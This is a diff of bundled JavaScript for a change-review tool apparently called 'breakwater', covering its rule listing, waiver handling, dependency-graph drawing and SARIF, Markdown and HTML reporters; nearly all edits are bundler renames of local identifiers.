+      list: async (prefix2 = "") => Object.keys(files4).filter((path26) => prefix2 === "" || path26.startsWith(`${prefix2.replace(/\/$/, "")}/`)).toSorted()
     });
-    asRecord = (files4, path25) => typeof files4 === "string" ? { [path25]: files4 } : files4;
+    asRecord = (files4, path26) => typeof files4 === "string" ? { [path26]: files4 } : files4;
     EXAMPLE_DAY = "2026-01-01";
     answering = (advisories2) => async ({ packages }) => ({
       known: new Map(packages.map((one) => [packageId(one), advisories2[`${one.name}@${one.version}`] ?? []])),
@@ -65000,8 +70485,8 @@ var init_example = __esm({
 });
 
 // src/reporters/parts/example.ts
-function exampleDiffs({ path: path25 = "", before: before3, after: after2 }) {
-  const [old, now] = [filesOf(before3, path25), filesOf(after2, path25)];
+function exampleDiffs({ path: path26 = "", before: before3, after: after2 }) {
+  const [old, now] = [filesOf(before3, path26), filesOf(after2, path26)];
   return [.../* @__PURE__ */ new Set([...old.keys(), ...now.keys()])].toSorted().map((name) => ({
     path: name,
     lines: lineDiff(linesOf2(old.get(name)), linesOf2(now.get(name)))
@@ -65017,7 +70502,7 @@ var init_example2 = __esm({
       ...Object.entries(advisories2).map(([name, known3]) => `With ${idsOf2(known3)} known against \`${name}\`:`)
     ].join(" ");
     idsOf2 = (known3) => known3.map(({ id: id3 }) => `\`${id3}\``).join(", ");
-    filesOf = (files4, path25) => new Map(typeof files4 === "string" ? [[path25, files4]] : Object.entries(files4));
+    filesOf = (files4, path26) => new Map(typeof files4 === "string" ? [[path26, files4]] : Object.entries(files4));
     linesOf2 = (text4 = "") => text4 === "" ? [] : text4.replace(/\n$/, "").split("\n");
   }
 });
@@ -65131,7 +70616,7 @@ var init_places = __esm({
     isRemoval = ({ before: before3, after: after2, excerpt: excerpt2, side: side3 }) => before3 !== void 0 && (after2 === void 0 || side3 === "base" || excerpt2 !== void 0 && excerpt2.removed.length > 0 && excerpt2.added.length === 0);
     shownPlace = (finding2) => finding2.before !== void 0 && isRemoval(finding2) ? { place: finding2.before, side: "base" } : { place: placeOf4(finding2), side: "head" };
     alsoPlaces = ({ also }) => also.flatMap(sidesOf2);
-    placeText = ({ path: path25, line: line2 }) => `${visible(path25)}:${line2}`;
+    placeText = ({ path: path26, line: line2 }) => `${visible(path26)}:${line2}`;
   }
 });
 
@@ -65187,11 +70672,11 @@ function approvalSentence({ approval: approval2 }) {
 }
 function remarks({ verdict: verdict2, unreadable }) {
   const known3 = new Set(verdict2.findings.map((finding2) => placeOf4(finding2).path));
-  const silent = unreadable.filter(({ path: path25 }) => !known3.has(path25));
+  const silent = unreadable.filter(({ path: path26 }) => !known3.has(path26));
   const all = [
     ...verdict2.notes,
     ...silent.map(
-      ({ path: path25, side: side3, reason }) => `\`${path25}\` is not compared: its ${side3} version cannot be read (${reason}).`
+      ({ path: path26, side: side3, reason }) => `\`${path26}\` is not compared: its ${side3} version cannot be read (${reason}).`
     )
   ];
   const more = all.length - MOST_REMARKS;
@@ -65258,7 +70743,7 @@ var init_wrap = __esm({
 });
 
 // src/reporters/parts/rules.ts
-function renderExplain(rule, said13, { colour, width }) {
+function renderExplain(rule, said14, { colour, width }) {
   const paint = painter(colour);
   const write = (words2) => wrapProse(words2, Math.min(width, 100) - INDENT, paint);
   return `${[
@@ -65268,7 +70753,7 @@ function renderExplain(rule, said13, { colour, width }) {
     ...Object.entries(rule.outcomes).flatMap(([name, outcome]) => [
       "",
       `${paint(outcome.risk, outcome.risk.padEnd(INDENT))}${[name, ...planes2(rule, outcome)].join(", ")}`,
-      ...hanging("", findingWords(rule, said13.get(name)).flatMap(write)),
+      ...hanging("", findingWords(rule, said14.get(name)).flatMap(write)),
       ...exampleLines(rule, name, paint)
     ]),
     ...rule.examples.some(({ outcome }) => outcome === "none") ? ["", paint("strong", "no finding")] : [],
@@ -65304,25 +70789,25 @@ var init_rules5 = __esm({
     init_quotable();
     init_words5();
     init_wrap();
-    renderRules = (rules7, format2, options2) => LISTS3[format2](rules7.toSorted(byId), painter(options2.colour));
+    renderRules = (rules8, format2, options2) => LISTS3[format2](rules8.toSorted(byId), painter(options2.colour));
     byId = (a, b3) => Number(a.id > b3.id) - Number(a.id < b3.id);
     LISTS3 = {
-      pretty: (rules7, paint) => {
-        const widest = Math.max(0, ...rules7.map(({ id: id3 }) => id3.length));
+      pretty: (rules8, paint) => {
+        const widest = Math.max(0, ...rules8.map(({ id: id3 }) => id3.length));
         const line2 = (rule) => {
           const worst = worstRisk(rule);
           return `${rule.id.padEnd(widest)}  ${paint(worst, worst.padEnd(8))}  ${rule.title}`;
         };
-        const closing2 = `${count6(rules7.length, "rule")}; each with the worst risk it can name. Read one: breakwater explain RULE`;
-        return `${[...rules7.map(line2), "", closing2].join("\n")}
+        const closing2 = `${count6(rules8.length, "rule")}; each with the worst risk it can name. Read one: breakwater explain RULE`;
+        return `${[...rules8.map(line2), "", closing2].join("\n")}
 `;
       },
-      json: (rules7) => jsonText(rules7.map(ruleData)),
-      markdown: (rules7) => `${rulesTables(rules7, ({ id: id3 }) => code2(id3))}
+      json: (rules8) => jsonText(rules8.map(ruleData)),
+      markdown: (rules8) => `${rulesTables(rules8, ({ id: id3 }) => code2(id3))}
 `
     };
-    rulesTables = (rules7, link) => DOMAINS.map((domain2) => {
-      const own3 = rules7.filter(({ id: id3 }) => id3.startsWith(`${domain2}/`)).toSorted(byId);
+    rulesTables = (rules8, link) => DOMAINS.map((domain2) => {
+      const own3 = rules8.filter(({ id: id3 }) => id3.startsWith(`${domain2}/`)).toSorted(byId);
       const rows = own3.map((rule) => [link(rule), escape(rule.title), rule.class, worstRisk(rule)]);
       return `## ${domain2}
 
@@ -65357,8 +70842,8 @@ ${table(["rule", "what it sees", "class", "worst risk"], rows)}`;
         exampleDiffs(example).flatMap((diff2) => diffLines(diff2, paint))
       )
     ]);
-    diffLines = ({ path: path25, lines }, paint) => [
-      ...path25 === "" ? [] : [path25],
+    diffLines = ({ path: path26, lines }, paint) => [
+      ...path26 === "" ? [] : [path26],
       ...lines.map(({ mark, text: text4 }) => paint(MARK_STYLES[mark], `${mark} ${quotable(text4)}`.trimEnd()))
     ];
     hanging = (label3, lines) => lines.map((line2, index) => (index === 0 ? label3 : "").padEnd(INDENT) + line2);
@@ -65381,27 +70866,27 @@ var init_unknown_rule = __esm({
 });
 
 // src/settings/extend-waivers.ts
-function extendWaivers(text4, path25, waiver2) {
+function extendWaivers(text4, path26, waiver2) {
   if (text4 === void 0 || isBlank(text4)) return `${kept3(text4)}waivers:
 ${entryOf13(waiver2, "  ", "\n")}`;
-  const known3 = parseWaivers(text4, path25);
-  refuseKnown(text4, path25, known3, waiver2);
+  const known3 = parseWaivers(text4, path26);
+  refuseKnown(text4, path26, known3, waiver2);
   const wanted = [...known3, waiver2];
   const spliced = splice(text4, waiver2);
-  return spliced !== void 0 && holds4(spliced, path25, wanted) ? spliced : rewritten(text4, waiver2);
+  return spliced !== void 0 && holds5(spliced, path26, wanted) ? spliced : rewritten(text4, waiver2);
 }
 function isBlank(text4) {
   const { contents, errors } = (0, import_yaml11.parseDocument)(text4);
   return contents === null && errors.length === 0;
 }
-function refuseKnown(text4, path25, known3, { id: id3 }) {
+function refuseKnown(text4, path26, known3, { id: id3 }) {
   const index = known3.findIndex((entry2) => entry2.id === id3);
   if (index < 0) return;
   const lines = new import_yaml11.LineCounter();
   const node2 = (0, import_yaml11.parseDocument)(text4, { lineCounter: lines }).getIn(["waivers", index], true);
   const { line: line2 } = lines.linePos((0, import_yaml11.isNode)(node2) ? node2.range?.[0] ?? 0 : 0);
   throw new UserError(
-    `${path25}:${line2} has a waiver for \`${presentable(id3)}\``,
+    `${path26}:${line2} has a waiver for \`${presentable(id3)}\``,
     "Change its reason or its day there, or take it out first."
   );
 }
@@ -65420,9 +70905,9 @@ function lastOf2(list3) {
   const [start2, stop] = ((0, import_yaml11.isMap)(last2) ? last2.range : void 0) ?? [];
   return start2 === void 0 || stop === void 0 ? void 0 : { start: start2, stop };
 }
-function holds4(text4, path25, wanted) {
+function holds5(text4, path26, wanted) {
   try {
-    return JSON.stringify(parseWaivers(text4, path25)) === JSON.stringify(wanted);
+    return JSON.stringify(parseWaivers(text4, path26)) === JSON.stringify(wanted);
   } catch (error) {
     if (error instanceof UserError) return false;
     throw error;
@@ -65456,13 +70941,13 @@ var init_extend_waivers = __esm({
 // src/cli/waive.ts
 import { lstat, mkdir as mkdir3, readFile as readFile4, realpath, writeFile as writeFile4 } from "node:fs/promises";
 import { dirname as dirname5, join as join11, relative as relative2 } from "node:path";
-async function waive({ dir, ...written3 }, { rules: rules7, today }) {
+async function waive({ dir, ...written3 }, { rules: rules8, today }) {
   const expires = dateOf(written3.expires, today);
   const waiver2 = { id: written3.id, reason: written3.reason.trim(), expires };
   if (waiver2.reason === "") throw new UserError("--reason is empty", "Say in a sentence why the change is safe.");
-  const rule = ruleOf(waiver2.id, rules7);
+  const rule = ruleOf(waiver2.id, rules8);
   const root = await topLevelOf(dir);
-  const { waivers: settings } = await settingsIn(root, rules7);
+  const { waivers: settings } = await settingsIn(root, rules8);
   const fault = faultOfTerm(expires, today, settings.maxDays);
   if (fault !== void 0) throw new UserError(`the waiver would not count: ${fault}`, latest(today, settings.maxDays));
   if (isHard(rule, settings.unwaivable))
@@ -65480,39 +70965,39 @@ function dateOf(expires, today) {
   const [, days2] = /^(\d{1,5})d$/.exec(expires) ?? [];
   return days2 === void 0 ? expires : daysAfter(today, Math.min(Number(days2), MOST_DAYS));
 }
-function ruleOf(id3, rules7) {
+function ruleOf(id3, rules8) {
   const colon = id3.indexOf(":");
   const [name, subject] = [id3.slice(0, Math.max(colon, 0)), id3.slice(colon + 1)];
   if (colon < 0 || !isIdentity(subject))
     throw new UserError(`\`${presentable(id3)}\` is no id of a finding`, "Copy it from the report: it is exact.");
-  const rule = rules7.find((candidate) => candidate.id === name);
+  const rule = rules8.find((candidate) => candidate.id === name);
   if (rule !== void 0) return rule;
   throw unknownRule(
     name,
-    rules7.map((candidate) => candidate.id)
+    rules8.map((candidate) => candidate.id)
   );
 }
-async function settingsIn(root, rules7) {
+async function settingsIn(root, rules8) {
   const text4 = await textOf8(await ownFile(root, SETTINGS_PATH), SETTINGS_PATH);
   return text4 === void 0 ? DEFAULT_SETTINGS : parseSettings(
     text4,
     SETTINGS_PATH,
-    rules7.map(({ id: id3 }) => id3)
+    rules8.map(({ id: id3 }) => id3)
   );
 }
-async function ownFile(root, path25) {
-  const file2 = join11(root, path25);
+async function ownFile(root, path26) {
+  const file2 = join11(root, path26);
   const folder = await realpath(dirname5(file2)).catch(absent);
   const inside = folder === void 0 || !relative2(await realpath(root), folder).startsWith("..");
   const known3 = await lstat(file2).catch(absent);
   if (inside && (known3 === void 0 || known3.isFile())) return file2;
-  throw new UserError(`${path25} is no file of this repository`, "Put a regular file in its place.");
+  throw new UserError(`${path26} is no file of this repository`, "Put a regular file in its place.");
 }
-async function textOf8(file2, path25) {
+async function textOf8(file2, path26) {
   try {
     return await readFile4(file2, "utf8").catch(absent);
   } catch (cause) {
-    throw new UserError(`cannot read ${path25}`, "Check that the file may be read.", { cause });
+    throw new UserError(`cannot read ${path26}`, "Check that the file may be read.", { cause });
   }
 }
 function absent(error) {
@@ -65586,13 +71071,13 @@ var init_rules6 = __esm({
 // src/reporters/parts/dependency-nodes.ts
 function dependencyNodes({ facts }, risks = /* @__PURE__ */ new Map()) {
   const changes = facts.flatMap(({ domain: domain2, change: change2 }) => domain2 === "dependencies" ? [change2] : []);
-  const marked3 = MARKS.flatMap(
+  const marked4 = MARKS.flatMap(
     ([kind, mark]) => changes.filter((change2) => change2.kind === kind).map((change2) => ({ change: change2, mark }))
   );
-  const marks = new Map(marked3.map(({ change: change2, mark }) => [nameOf11(change2), mark]));
+  const marks = new Map(marked4.map(({ change: change2, mark }) => [nameOf12(change2), mark]));
   const drawn = changes.filter((change2) => isDeclared2(change2) || isDragged(change2));
-  const names4 = new Set(drawn.map(nameOf11));
-  const others = marked3.map(({ change: change2 }) => change2).filter((change2) => !names4.has(nameOf11(change2)));
+  const names4 = new Set(drawn.map(nameOf12));
+  const others = marked4.map(({ change: change2 }) => change2).filter((change2) => !names4.has(nameOf12(change2)));
   const nodes = nodesOf([...drawn, ...others], marks, risks);
   if (nodes.length < LEAST_NODES && others.length === 0) return { nodes: [], hidden: 0 };
   return { nodes: nodes.slice(0, MOST_NODES), hidden: Math.max(0, nodes.length - MOST_NODES) };
@@ -65604,7 +71089,7 @@ function bringersOf(change2) {
 function nodesOf(changes, marks, risks) {
   const nodes = /* @__PURE__ */ new Map();
   for (const change2 of changes) {
-    const name = nameOf11(change2);
+    const name = nameOf12(change2);
     const key4 = nodeKey(change2);
     const paths3 = nodes.get(key4)?.paths ?? /* @__PURE__ */ new Set();
     const bringers = bringersOf(change2);
@@ -65622,7 +71107,7 @@ function textOf9(change2, field) {
   const value = Reflect.get(change2, field);
   return typeof value === "string" ? value : void 0;
 }
-var MOST_NODES, LEAST_NODES, MARKS, isDeclared2, isDragged, MARK_ORDER, byDanger, nodeKey, nameOf11;
+var MOST_NODES, LEAST_NODES, MARKS, isDeclared2, isDragged, MARK_ORDER, byDanger, nodeKey, nameOf12;
 var init_dependency_nodes = __esm({
   "src/reporters/parts/dependency-nodes.ts"() {
     "use strict";
@@ -65637,8 +71122,8 @@ var init_dependency_nodes = __esm({
     isDragged = (change2) => "section" in change2 && bringersOf(change2).length > 0;
     MARK_ORDER = ["vulnerable", "fixed", void 0];
     byDanger = (a, b3) => MARK_ORDER.indexOf(a.mark) - MARK_ORDER.indexOf(b3.mark) || Number(a.bringers.length > 0) - Number(b3.bringers.length > 0) || compareRisk(b3.risk ?? "info", a.risk ?? "info");
-    nodeKey = (change2) => `${nameOf11(change2)} ${stepOf3(change2)}`;
-    nameOf11 = (change2) => textOf9(change2, "name") ?? change2.subject;
+    nodeKey = (change2) => `${nameOf12(change2)} ${stepOf3(change2)}`;
+    nameOf12 = (change2) => textOf9(change2, "name") ?? change2.subject;
   }
 });
 
@@ -65838,7 +71323,7 @@ function rank3(findings2) {
     waived: sorted.filter((finding2) => finding2.waiver !== void 0).toSorted(byNews)
   };
 }
-function groupByPath(ranked, keyOf10 = (path25) => path25) {
+function groupByPath(ranked, keyOf10 = (path26) => path26) {
   const groups2 = /* @__PURE__ */ new Map();
   for (const finding2 of ranked) {
     const key4 = keyOf10(placeOf4(finding2).path);
@@ -65867,13 +71352,13 @@ function riskByFolder(ranked) {
   if (folders.size < 2) return "";
   const widest = [...folders.values()].reduce((most, findings2) => Math.max(most, findings2.length), 0);
   const rows = [...folders].slice(0, MOST_FOLDERS).map(([folder, findings2]) => row2(folder, findings2, widest));
-  const hidden = folders.size - rows.length;
+  const hidden2 = folders.size - rows.length;
   return element2(
     "section",
     { class: "folders", "aria-labelledby": "folders" },
     '<h2 id="folders">Risk by folder</h2>',
     element2("ol", {}, ...rows),
-    hidden > 0 ? element2("p", { class: "faint" }, `and ${count6(hidden, "folder")} more`) : ""
+    hidden2 > 0 ? element2("p", { class: "faint" }, `and ${count6(hidden2, "folder")} more`) : ""
   );
 }
 function bar(findings2, widest) {
@@ -65899,7 +71384,7 @@ var init_html_chart = __esm({
     init_ranking();
     init_words5();
     MOST_FOLDERS = 12;
-    folderOf4 = (path25) => `${path25.split("/").slice(0, -1).slice(0, 3).join("/") || "."}/`;
+    folderOf4 = (path26) => `${path26.split("/").slice(0, -1).slice(0, 3).join("/") || "."}/`;
     row2 = (folder, findings2, widest) => element2(
       "li",
       {},
@@ -65912,7 +71397,7 @@ var init_html_chart = __esm({
 
 // src/reporters/parts/html-dependencies.ts
 function htmlDependencies(report) {
-  const { nodes, hidden } = dependencyNodes(report, risksOf2(report));
+  const { nodes, hidden: hidden2 } = dependencyNodes(report, risksOf2(report));
   if (nodes.length === 0) return "";
   const rows = rowsOf(nodes);
   return element2(
@@ -65920,7 +71405,7 @@ function htmlDependencies(report) {
     { class: "panel", "aria-labelledby": "dependencies" },
     '<h2 id="dependencies">Dependencies</h2>',
     element2("div", { class: "graph" }, files2(rows), edges(nodes, rows), element2("ul", {}, ...nodes.map(item))),
-    hidden > 0 ? element2("p", { class: "faint" }, `and ${count6(hidden, "dependency", "dependencies")} more, among all changes`) : ""
+    hidden2 > 0 ? element2("p", { class: "faint" }, `and ${count6(hidden2, "dependency", "dependencies")} more, among all changes`) : ""
   );
 }
 function risksOf2({ verdict: verdict2 }) {
@@ -65936,28 +71421,28 @@ function rowsOf(nodes) {
   const rows = /* @__PURE__ */ new Map();
   const taken2 = /* @__PURE__ */ new Set();
   for (const [index, node2] of nodes.entries()) {
-    for (const path25 of drawnPaths(node2).filter((drawn) => !rows.has(drawn))) {
+    for (const path26 of drawnPaths(node2).filter((drawn) => !rows.has(drawn))) {
       let row3 = index;
       while (taken2.has(row3)) row3 += 1;
-      rows.set(path25, row3);
+      rows.set(path26, row3);
       taken2.add(row3);
     }
   }
   return rows;
 }
 function files2(rows) {
-  const paths3 = new Map([...rows].map(([path25, row3]) => [row3, path25]));
+  const paths3 = new Map([...rows].map(([path26, row3]) => [row3, path26]));
   const items = Array.from({ length: 1 + Math.max(...rows.values()) }, (_3, row3) => {
-    const path25 = paths3.get(row3);
-    return element2("li", {}, path25 === void 0 ? "" : element2("code", { title: path25 }, html(path25)));
+    const path26 = paths3.get(row3);
+    return element2("li", {}, path26 === void 0 ? "" : element2("code", { title: path26 }, html(path26)));
   });
   return element2("ol", { "aria-hidden": "true" }, ...items);
 }
 function edges(nodes, rows) {
   const height = Math.max(nodes.length, 1 + Math.max(...rows.values()));
   const paths3 = nodes.flatMap(
-    (node2, to2) => drawnPaths(node2).map((path25) => {
-      const [y2, end] = [(rows.get(path25) ?? 0) + 0.5, to2 + 0.5];
+    (node2, to2) => drawnPaths(node2).map((path26) => {
+      const [y2, end] = [(rows.get(path26) ?? 0) + 0.5, to2 + 0.5];
       return element2("path", { class: styleOf(node2), d: `M0 ${y2}C50 ${y2} 50 ${end} 100 ${end}` });
     })
   );
@@ -65970,7 +71455,7 @@ function edges(nodes, rows) {
 function item(node2) {
   const { name, step: step3, paths: paths3, bringers } = node2;
   const style = styleOf(node2);
-  const more = paths3.size > MOST_FILES3 ? ` and ${count6(paths3.size - MOST_FILES3, "file")} more` : "";
+  const more = paths3.size > MOST_FILES4 ? ` and ${count6(paths3.size - MOST_FILES4, "file")} more` : "";
   return element2(
     "li",
     { class: style, title: `${name} ${step3}` },
@@ -65981,7 +71466,7 @@ function item(node2) {
     bringers.length === 0 ? "" : element2("small", {}, html(`by way of ${bringers.join(", ")}`))
   );
 }
-var MOST_FILES3, LONGEST_STEP, drawnPaths, styleOf;
+var MOST_FILES4, LONGEST_STEP, drawnPaths, styleOf;
 var init_html_dependencies = __esm({
   "src/reporters/parts/html-dependencies.ts"() {
     "use strict";
@@ -65990,9 +71475,9 @@ var init_html_dependencies = __esm({
     init_dependency_nodes();
     init_html_text();
     init_words5();
-    MOST_FILES3 = 3;
+    MOST_FILES4 = 3;
     LONGEST_STEP = 44;
-    drawnPaths = ({ paths: paths3 }) => [...paths3].slice(0, MOST_FILES3);
+    drawnPaths = ({ paths: paths3 }) => [...paths3].slice(0, MOST_FILES4);
     styleOf = ({ mark, risk: risk2 }) => mark ?? risk2;
   }
 });
@@ -66550,7 +72035,7 @@ var init_links = __esm({
     rulePagesOf = ({ rulesUrl }) => (rule) => rulesUrl === void 0 ? void 0 : `${rulesUrl}/${encodePath(rule)}.md`;
     lineText = ({ line: line2, endLine = line2 }) => endLine > line2 ? `lines ${line2}–${endLine}` : `line ${line2}`;
     anchor = ({ line: line2, endLine = line2 }) => endLine > line2 ? `#L${line2}-L${endLine}` : `#L${line2}`;
-    encodePath = (path25) => path25.split("/").map(encodeSegment).join("/");
+    encodePath = (path26) => path26.split("/").map(encodeSegment).join("/");
     encodeSegment = (segment) => encodeURIComponent(segment.replace(new RegExp("\\p{Cs}", "gu"), "�")).replace(
       /[!'()*]/g,
       (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`
@@ -66748,12 +72233,12 @@ var init_defuse = __esm({
 
 // src/reporters/parts/dependency-graph.ts
 function dependencyGraph(report) {
-  const { nodes, hidden } = dependencyNodes(report);
+  const { nodes, hidden: hidden2 } = dependencyNodes(report);
   if (nodes.length === 0) return [];
   return [
     "flowchart LR",
     ...edgesOf(nodes),
-    ...hidden > 0 ? [`  more[${label2(`and ${count6(hidden, "dependency", "dependencies")} more`)}]`] : [],
+    ...hidden2 > 0 ? [`  more[${label2(`and ${count6(hidden2, "dependency", "dependencies")} more`)}]`] : [],
     ...Object.entries(STYLES).map(([name, style]) => `  classDef ${name} ${style}`)
   ];
 }
@@ -66762,14 +72247,14 @@ function edgesOf(nodes) {
   const roots = new Map(
     nodes.flatMap(({ name, bringers }, index) => bringers.length > 0 ? [] : [[name, `d${index}`]])
   );
-  const fileNode = (path25) => {
-    const file2 = files4.get(path25) ?? files4.size;
-    files4.set(path25, file2);
-    return `f${file2}[${label2(path25)}]`;
+  const fileNode = (path26) => {
+    const file2 = files4.get(path26) ?? files4.size;
+    files4.set(path26, file2);
+    return `f${file2}[${label2(path26)}]`;
   };
   const unchanged2 = /* @__PURE__ */ new Map();
   const above = ({ bringers, paths: paths3 }) => {
-    const hung = [...paths3].slice(0, MOST_FILES4);
+    const hung = [...paths3].slice(0, MOST_FILES5);
     if (bringers.length === 0) return hung.map(fileNode);
     return bringers.map((name) => {
       const id3 = roots.get(name) ?? `u${roots.size}`;
@@ -66784,14 +72269,14 @@ function edgesOf(nodes) {
   });
   return [...edges2, ...unchanged2.values()];
 }
-var MOST_FILES4, LONGEST_LABEL, STYLES, label2;
+var MOST_FILES5, LONGEST_LABEL, STYLES, label2;
 var init_dependency_graph = __esm({
   "src/reporters/parts/dependency-graph.ts"() {
     "use strict";
     init_present();
     init_dependency_nodes();
     init_words5();
-    MOST_FILES4 = 3;
+    MOST_FILES5 = 3;
     LONGEST_LABEL = 60;
     STYLES = {
       vulnerable: "fill:#ffebe9,stroke:#cf222e,color:#82071e",
@@ -66856,8 +72341,8 @@ var init_markdown_blocks = __esm({
       `until ${code2(finding2.waiver?.expires ?? "")}: ${escape(finding2.waiver?.reason ?? "")}`
     ];
     sections = (findings2, pageOf, rulePageOf) => [...groupByPath(findings2)].flatMap(
-      ([path25, group5]) => group5.map(
-        (finding2, index) => [...index === 0 ? [`### ${code2(path25)}`] : [], section(finding2, pageOf, rulePageOf)].join("\n\n")
+      ([path26, group5]) => group5.map(
+        (finding2, index) => [...index === 0 ? [`### ${code2(path26)}`] : [], section(finding2, pageOf, rulePageOf)].join("\n\n")
       )
     );
     origin = ({ rule, breaks }, page2) => [
@@ -66904,8 +72389,7 @@ function renderMarkdown(report, options2, bytes, wanted = "all") {
   const fresh = take2(accepted.filter(isNew).map((finding2) => waivedRow(finding2, pageOf)));
   const waived = take2(accepted.filter((finding2) => !isNew(finding2)).map((finding2) => waivedRow(finding2, pageOf)));
   const entries2 = take2(waiverEntries(ranked.notable));
-  const graph = wanted === "all" ? take2(picture(report)) : [];
-  const tree2 = wanted === "all" ? take2(treeTable(report)) : [];
+  const pictures = wanted === "all" ? take2([...picture(report), ...treeTable(report)]) : [];
   const untold = wanted === "all" ? rows.length - details.length : 0;
   const shown5 = { rows: rows.length, untold, minor: minor.length, waived: fresh.length + waived.length };
   const blocks5 = [
@@ -66920,8 +72404,7 @@ ${table([...HEADINGS, "accepted"], fresh)}`,
     notes.join("\n"),
     leftOut2(ranked, shown5),
     ...details,
-    ...graph,
-    ...tree2,
+    ...pictures,
     ...entries2
   ];
   return `${defuse(blocks5.filter((block3) => block3 !== "").join("\n\n"))}
@@ -67116,15 +72599,15 @@ var init_pretty = __esm({
 // src/reporters/sarif.ts
 function runOf(report, options2) {
   const { findings: findings2 } = report.verdict;
-  const rules7 = worstOfEachRule(findings2);
-  const ids = rules7.map(({ rule }) => rule);
+  const rules8 = worstOfEachRule(findings2);
+  const ids = rules8.map(({ rule }) => rule);
   const pageOf = rulePagesOf(options2);
   return {
     tool: {
       driver: {
         name: report.tool.name,
         semanticVersion: report.tool.version,
-        rules: rules7.map((finding2) => ruleOf2(finding2, pageOf))
+        rules: rules8.map((finding2) => ruleOf2(finding2, pageOf))
       }
     },
     columnKind: "utf16CodeUnits",
@@ -67133,10 +72616,10 @@ function runOf(report, options2) {
     invocations: [
       {
         executionSuccessful: true,
-        toolExecutionNotifications: report.unreadable.map(({ path: path25, side: side3, reason }) => ({
+        toolExecutionNotifications: report.unreadable.map(({ path: path26, side: side3, reason }) => ({
           level: "error",
           message: { text: `Not compared: the ${side3} version cannot be read (${reason}).` },
-          locations: [{ physicalLocation: { artifactLocation: artifact(path25) } }]
+          locations: [{ physicalLocation: { artifactLocation: artifact(path26) } }]
         }))
       }
     ],
@@ -67144,12 +72627,12 @@ function runOf(report, options2) {
   };
 }
 function worstOfEachRule(findings2) {
-  const rules7 = /* @__PURE__ */ new Map();
+  const rules8 = /* @__PURE__ */ new Map();
   for (const finding2 of findings2) {
-    const known3 = rules7.get(finding2.rule);
-    if (known3 === void 0 || compareRisk(finding2.risk, known3.risk) > 0) rules7.set(finding2.rule, finding2);
+    const known3 = rules8.get(finding2.rule);
+    if (known3 === void 0 || compareRisk(finding2.risk, known3.risk) > 0) rules8.set(finding2.rule, finding2);
   }
-  return [...rules7.values()].toSorted((a, b3) => Number(a.rule > b3.rule) - Number(a.rule < b3.rule));
+  return [...rules8.values()].toSorted((a, b3) => Number(a.rule > b3.rule) - Number(a.rule < b3.rule));
 }
 function provenance({ range: range3 }, { repositoryUrl }) {
   if (repositoryUrl === void 0 || range3.head === "WORKTREE") return {};
@@ -67203,10 +72686,10 @@ var init_sarif = __esm({
       const places = alsoPlaces(finding2);
       return places.length === 0 ? {} : { relatedLocations: places.map(({ place: place5 }, id3) => ({ id: id3, ...location2(place5) })) };
     };
-    location2 = ({ path: path25, line: line2, endLine = line2 }) => ({
-      physicalLocation: { artifactLocation: artifact(path25), region: { startLine: line2, endLine } }
+    location2 = ({ path: path26, line: line2, endLine = line2 }) => ({
+      physicalLocation: { artifactLocation: artifact(path26), region: { startLine: line2, endLine } }
     });
-    artifact = (path25) => ({ uri: encodePath(path25), uriBaseId: "%SRCROOT%" });
+    artifact = (path26) => ({ uri: encodePath(path26), uriBaseId: "%SRCROOT%" });
   }
 });
 
@@ -67423,8 +72906,8 @@ async function makeDemo() {
   return { dir, base: "main", head: "feature" };
 }
 async function commit(dir, git2, files4, message4) {
-  for (const [path25, text4] of Object.entries(files4)) {
-    const file2 = join12(dir, path25);
+  for (const [path26, text4] of Object.entries(files4)) {
+    const file2 = join12(dir, path26);
     await mkdir4(dirname6(file2), { recursive: true });
     await writeFile5(file2, text4);
   }
@@ -67468,7 +72951,7 @@ async function runCommand(command, program) {
     case "demo":
       return runDemo(command.options, program);
     case "rules":
-      return show(await rules6(command.options), command.options);
+      return show(await rules7(command.options), command.options);
     case "explain":
       return show(await explain(command.rule));
     case "init": {
@@ -67512,7 +72995,7 @@ async function runDemo(options2, program) {
 `);
   return runReview({ ...options2, ...demo }, program);
 }
-async function rules6(options2) {
+async function rules7(options2) {
   const { listRules: listRules2 } = await Promise.resolve().then(() => (init_rules6(), rules_exports));
   return listRules2(options2.format, terminal(options2));
 }
